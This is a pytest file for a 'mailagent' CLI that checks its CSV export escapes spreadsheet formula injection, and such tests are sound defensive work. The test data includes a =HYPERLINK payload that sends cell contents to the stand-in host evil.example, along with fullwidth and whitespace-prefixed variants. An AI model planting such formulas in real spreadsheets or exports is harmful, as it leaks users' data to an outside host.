"""``mailagent publishing --format csv`` opens in a spreadsheet as text: an R2 title written
as a formula (``=HYPERLINK(…)``) comes out with a leading apostrophe (OWASP CSV injection),
and so does every other cell that would start a formula, whitespace first or not."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mailagent.cli import app as cli
from mailagent.csv_out import spreadsheet_safe
from mailagent.db import transaction
from mailagent.imports import import_r2_files
from tests.jobs.conftest import make_app

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the role")'
R2 = """\
pipeline: {pid}
title: '{title}'
hiring_manager: {{name: Mia Holt, email: mia.holt@example.com}}
recruiter: {{name: Sol Ruiz, email: sol.ruiz@example.com}}
criteria:
  - {{key: test_strategy, text: Owns a test strategy across teams., kind: must}}
"""
TITLES = {
    "evil": EVIL,
    "plus": "+SUM(1,2)",
    "minus": "-2+3",
    "at": "@SUM(A1:A2)",
    "space": "   =1+1",
    "tab": "\t=1+1",
    "fullwidth": '\uff1dHYPERLINK("http://evil.example")',
    "plain": "QA Lead",
}


def test_publishing_csv_has_no_live_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = make_app(tmp_path)
    files = []
    for pid, title in TITLES.items():
        path = tmp_path / f"{pid}.yaml"
        path.write_text(R2.format(pid=pid, title=title.replace("'", "''")), encoding="utf-8")
        files.append(path)
    with transaction(app.factory) as s:
        import_r2_files(s, files)
    (tmp_path / "mailagent.toml").write_text(
        f'database_url = "{app.settings.resolved_database_url}"\n'
        'secret = "test-secret-0123456789abcdef"\n'
    )
    app.close()
    monkeypatch.delenv("MAILAGENT_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)
    out = CliRunner().invoke(
        cli, ["publishing", "--format", "csv", "--week", "2026-W23", "--now", "2026-06-03"]
    )
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.output)))
    titles = {r[0]: r[1] for r in rows[1:]}
    assert titles["evil"] == "'" + EVIL
    assert titles["plain"] == "QA Lead"
    for pid in TITLES:
        if pid != "plain":
            assert titles[pid].startswith("'"), pid
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@") or cell.startswith("'"), row


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n=1", "'\n=1"),
        ("\uff20x", "'\uff20x"),
        ("2026-W23", "2026-W23"),
        ("QA = Lead", "QA = Lead"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe
